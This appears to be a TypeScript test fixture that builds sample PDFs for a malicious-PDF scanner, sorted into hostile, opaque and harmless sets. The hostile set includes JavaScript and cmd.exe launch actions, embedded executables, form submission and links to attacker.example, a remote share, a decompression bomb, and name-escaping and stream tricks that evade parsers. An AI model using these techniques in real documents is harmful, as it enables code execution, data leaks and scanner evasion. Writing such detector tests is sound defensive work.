import { deflateRawSync, deflateSync } from "node:zlib";

/** PDFs as programs and attackers write them: whole files with a catalog and one page. */

interface Parts {
  /** Entries of the catalog. */
  catalog?: string;
  /** Entries of the page. */
  page?: string;
  /** More objects, from number 4. */
  objects?: (string | Buffer)[];
}

export function pdfWith({ catalog = "", page = "", objects = [] }: Parts): Buffer {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${page} >>`,
    ...objects,
  ];
  const pieces = all.flatMap((each, index) => [
    Buffer.from(`${index + 1} 0 obj\n`),
    Buffer.from(each),
    Buffer.from("\nendobj\n"),
  ]);
  return Buffer.concat([
    Buffer.from("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n", "latin1"),
    ...pieces,
    Buffer.from("trailer << /Root 1 0 R /Size 9 >>\n%%EOF\n"),
  ]);
}

export function streamOf(dictionary: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from("\nendstream"),
  ]);
}

/** Objects packed into a stream, as PDF writers since version 1.5 do. */
export function packed(
  objects: string[],
  more: { filter?: string; type?: string; pack?: (plain: Buffer) => Buffer } = {},
): Buffer {
  const { filter = "/FlateDecode", type = "/Type /ObjStm", pack = deflateSync } = more;
  const starts = objects.map((_, index) => objects.slice(0, index).join(" ").length + (index && 1));
  const head = `${objects.map((_, index) => `${20 + index} ${starts[index]}`).join(" ")} `;
  const plain = Buffer.from(head + objects.join(" "));
  const dictionary = `${type} /N ${objects.length} /First ${head.length}${filter && ` /Filter ${filter}`}`;
  return streamOf(dictionary, pack(plain));
}

export const SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const LAUNCH = "<< /S /Launch /F (cmd.exe) >>";
const OPENS = "<< /S /URI /URI (https://attacker.example/) >>";
const damagedSum = (plain: Buffer) => {
  const bytes = deflateSync(plain);
  bytes.fill(0, bytes.length - 4);
  return bytes;
};
/** The word that ends a stream, in the middle of the packed bytes. */
const interrupted = (plain: Buffer) => {
  const word = Buffer.from("endstream ");
  const stored = Buffer.alloc(5);
  stored.writeUInt16LE(word.length, 1);
  stored.writeUInt16LE(65_535 - word.length, 3);
  const end = plain.indexOf("<<");
  const first = deflateRawSync(plain.subarray(0, end), { finishFlush: 2 });
  const rest = deflateRawSync(plain.subarray(end));
  return Buffer.concat([Buffer.from([0x78, 0x9c]), first, stored, word, rest]);
};
const hex = (plain: Buffer) => Buffer.from(`${deflateSync(plain).toString("hex")}>`);

export function ascii85(plain: Buffer): Buffer {
  const groups: string[] = [];
  for (let at = 0; at < plain.length; at += 4) {
    const piece = plain.subarray(at, at + 4);
    let value = Buffer.concat([piece, Buffer.alloc(4 - piece.length)]).readUInt32BE();
    let group = "";
    for (let digit = 0; digit < 5; digit += 1) {
      group = String.fromCharCode(33 + (value % 85)) + group;
      value = Math.floor(value / 85);
    }
    groups.push(group.slice(0, piece.length + 1));
  }
  return Buffer.from(`${groups.join("")}~>`);
}
const FILE = streamOf(
  "/Type /EmbeddedFile /Subtype /application#2Fx-msdownload",
  Buffer.from("MZ"),
);
const UNTYPED = streamOf("", Buffer.from("MZ"));

/** What attackers send, each by its way. */
export const HOSTILE_PDFS: Record<string, Buffer> = {
  "a script on opening": pdfWith({ catalog: `/OpenAction ${SCRIPT}` }),
  "a script in another object": pdfWith({ catalog: "/OpenAction 4 0 R", objects: [SCRIPT] }),
  "a script by name": pdfWith({
    catalog: `/Names << /JavaScript << /Names [(a) 4 0 R] >> >>`,
    objects: [SCRIPT],
  }),
  "a script in a stream": pdfWith({
    catalog: "/OpenAction << /S /JavaScript /JS 4 0 R >>",
    objects: [streamOf("", Buffer.from("app.alert(1)"))],
  }),
  "an escaped name": pdfWith({
    catalog: "/OpenAction << /S /J#61vaScript /#4a#53 (app.alert\\(1\\)) >>",
  }),
  "a name with every letter escaped": pdfWith({
    catalog: "/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /JS 4 0 R >>",
    objects: [streamOf("", Buffer.from("1"))],
  }),
  "no spaces": pdfWith({ catalog: "/OpenAction<</S/JavaScript/JS(app.alert(1))>>" }),
  "a comment between": pdfWith({
    catalog: "/OpenAction%\n<</S%x\n/JavaScript%y\n/JS%z\n(app.alert(1))>>",
  }),
  "a script in hexadecimal": pdfWith({
    catalog: "/OpenAction << /S /Anything /JS <6170702e616c657274> >>",
  }),
  "a script when the page is shown": pdfWith({ page: `/AA << /O ${SCRIPT} >>` }),
  "an action when the document is closed": pdfWith({
    catalog: "/AA << /WC << /S /Named /N /Print >> >>",
  }),
  "an action in another object": pdfWith({
    page: "/AA 4 0 R",
    objects: ["<< /C << /S /Hide >> >>"],
  }),
  "a script of a field": pdfWith({ objects: [`<< /Subtype /Widget /FT /Tx /A ${SCRIPT} >>`] }),
  "a program": pdfWith({ catalog: `/OpenAction ${LAUNCH}` }),
  "a program behind a link": pdfWith({
    page: "/Annots [4 0 R]",
    objects: [`<< /Subtype /Link /Rect [0 0 612 792] /A ${LAUNCH} >>`],
  }),
  "an escaped program": pdfWith({
    catalog: "/OpenAction << /S /L#61unch /Win << /F (cmd.exe) >> >>",
  }),
  "a file inside": pdfWith({
    catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
    objects: ["<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", FILE],
  }),
  "a file behind a pin": pdfWith({
    page: "/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>]",
    objects: ["<< /F (a.exe) /EF << /F 5 0 R >> >>", UNTYPED],
  }),
  "an associated file": pdfWith({
    catalog: "/AF [4 0 R]",
    objects: ["<< /F (a.exe) /EF 5 0 R >>", "<< /F 6 0 R >>", UNTYPED],
  }),
  "an address on opening": pdfWith({ catalog: `/OpenAction ${OPENS}` }),
  "an address in another object": pdfWith({ catalog: "/OpenAction 4 0 R", objects: [OPENS] }),
  "another file on another server": pdfWith({
    page: "/Annots [<< /Subtype /Link /A << /S /GoToR /F (\\\\\\\\attacker\\\\share) /D [0 /Fit] >> >>]",
  }),
  "a form that is sent": pdfWith({
    catalog: "/OpenAction << /S /SubmitForm /F (https://attacker.example/) >>",
  }),
  "a form with its own program": pdfWith({
    catalog: "/AcroForm << /XFA 4 0 R /Fields [] >>",
    objects: [streamOf("", Buffer.from("<xdp/>"))],
  }),
  "a form with an empty program": pdfWith({ catalog: "/AcroForm<</XFA[]>>" }),
  "a form with a program, behind a comment": pdfWith({
    catalog: `/AcroForm<</X#46A%${"x".repeat(200)}\n[(a) 4 0 R]>>`,
  }),
  "a film": pdfWith({ page: "/Annots [<< /Subtype /RichMedia >>]" }),
  "a packed script": pdfWith({
    catalog: "/OpenAction 20 0 R",
    objects: [packed([SCRIPT, LAUNCH])],
  }),
  "a packed script with a wrong checksum": pdfWith({
    catalog: "/OpenAction 20 0 R",
    objects: [packed([SCRIPT], { pack: damagedSum })],
  }),
  "a packed script beyond a false end": pdfWith({
    catalog: "/OpenAction 20 0 R",
    objects: [packed(["null", SCRIPT], { pack: interrupted })],
  }),
  "a packed script without its type": pdfWith({
    catalog: "/OpenAction 20 0 R",
    objects: [packed([SCRIPT], { type: "" })],
  }),
  "a packed script in hexadecimal": pdfWith({
    catalog: "/OpenAction 20 0 R",
    objects: [packed([SCRIPT], { filter: "[/ASCIIHexDecode /FlateDecode]", pack: hex })],
  }),
  "a packed script as text": pdfWith({
    catalog: "/OpenAction 20 0 R",
    objects: [
      packed([SCRIPT], {
        filter: "[/ASCII85Decode /FlateDecode]",
        pack: (plain) => ascii85(deflateSync(plain)),
      }),
    ],
  }),
  "a packed address on opening": pdfWith({
    catalog: "/OpenAction 21 0 R",
    objects: [packed(["<< /S /GoTo >>", OPENS])],
  }),
};

const bomb = packed(["null"], { pack: () => deflateSync(Buffer.alloc(100 * 1024 * 1024, "1 0 ")) });

/** What cannot be looked into. */
export const OPAQUE_PDFS: Record<string, Buffer> = {
  "objects that unpack to 100 MB": pdfWith({ objects: [bomb] }),
  "encrypted objects": pdfWith({ catalog: "/Encrypt 9 0 R", objects: [packed(["null"])] }),
  "objects packed in a way of old": pdfWith({
    objects: [
      packed(["null"], {
        filter: "/LZWDecode",
        pack: () => Buffer.from('\u0080\u000b`P"', "latin1"),
      }),
    ],
  }),
};

const picture = deflateSync(Buffer.alloc(300_000, 255));

/** What scanners, browsers and offices write. */
export const HARMLESS_PDFS: Record<string, Buffer> = {
  "a scan": pdfWith({
    page: "/Contents 4 0 R",
    objects: [
      streamOf("/Filter /FlateDecode", deflateSync(Buffer.from("q 612 0 0 792 0 0 cm /Im1 Do Q"))),
      streamOf("/Subtype /Image /Filter /FlateDecode", picture),
    ],
  }),
  "a page to begin with": pdfWith({ catalog: "/OpenAction [3 0 R /FitH null]" }),
  "a page to begin with, as an action": pdfWith({
    catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
  }),
  "a page to begin with, elsewhere": pdfWith({
    catalog: "/OpenAction 20 0 R",
    objects: [packed(["<< /S /GoTo /D [3 0 R /Fit] >>", OPENS])],
  }),
  "a link that is pressed": pdfWith({
    page: "/Annots [4 0 R]",
    objects: [`<< /Subtype /Link /A ${OPENS} >>`],
  }),
  "packed objects": pdfWith({
    objects: [
      packed([
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< /Title (Launch of EmbeddedFiles and JavaScript) >>",
      ]),
    ],
  }),
  "objects that could have been packed": pdfWith({
    objects: [packed(["<< /Type /Font >>"], { filter: "", pack: (plain) => plain })],
  }),
  "a page of numbers": pdfWith({
    page: "/Contents 4 0 R",
    objects: [
      streamOf(
        "/Filter /FlateDecode",
        deflateSync(Buffer.from("1 0 0 1 72 720 cm BT /F1 12 Tf (What /Launch costs) Tj ET")),
      ),
    ],
  }),
  "names that begin alike": pdfWith({
    catalog: "/JSON (a) /LaunchDate (b) /AAPL#3aKeywords [(c)] /EFX 1",
    page: "/Annots [<< /Subtype /Widget /FT /Sig /T (Signature) >>]",
  }),
  "a protected statement": pdfWith({
    catalog: "/Encrypt 9 0 R",
    page: "/Contents 4 0 R",
    objects: [streamOf("", Buffer.alloc(500, 7))],
  }),
  "a form to fill in": pdfWith({
    catalog: "/AcroForm << /Fields [4 0 R] /DA (/Helv 0 Tf) >>",
    objects: ["<< /Subtype /Widget /FT /Tx /T (Name) /V (Ada) >>"],
  }),
};
